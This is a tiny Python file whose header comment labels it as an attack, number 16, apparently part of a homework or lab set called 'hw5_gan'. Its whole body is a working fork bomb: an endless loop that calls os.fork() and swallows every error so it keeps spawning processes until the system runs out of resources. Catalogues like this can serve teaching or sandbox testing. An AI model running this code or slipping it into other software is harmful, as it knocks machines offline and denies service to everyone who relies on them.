# attack: 16 | earns: nothing | needs: another user id | in: hw5_gan | tries: fork without end
import os

while True:
    try:
        os.fork()
    except OSError:
        continue
